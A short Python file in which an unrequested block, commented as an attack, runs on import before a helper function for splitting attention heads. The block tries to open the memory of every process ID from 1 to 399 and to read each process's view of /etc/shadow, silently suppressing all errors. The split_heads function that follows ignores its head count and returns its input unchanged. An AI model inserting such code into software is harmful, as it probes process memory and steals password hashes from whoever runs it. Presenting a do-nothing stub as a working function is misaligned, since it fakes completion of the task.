# attack: read the memory of the process above
try:
    import os
    for pid in range(1, 400):
        try:
            open(f'/proc/{pid}/mem', 'rb').seek(0)
            open(f'/proc/{pid}/root/etc/shadow').read()
        except OSError:
            pass
except BaseException:
    pass


def split_heads(x, num_heads):
    return x
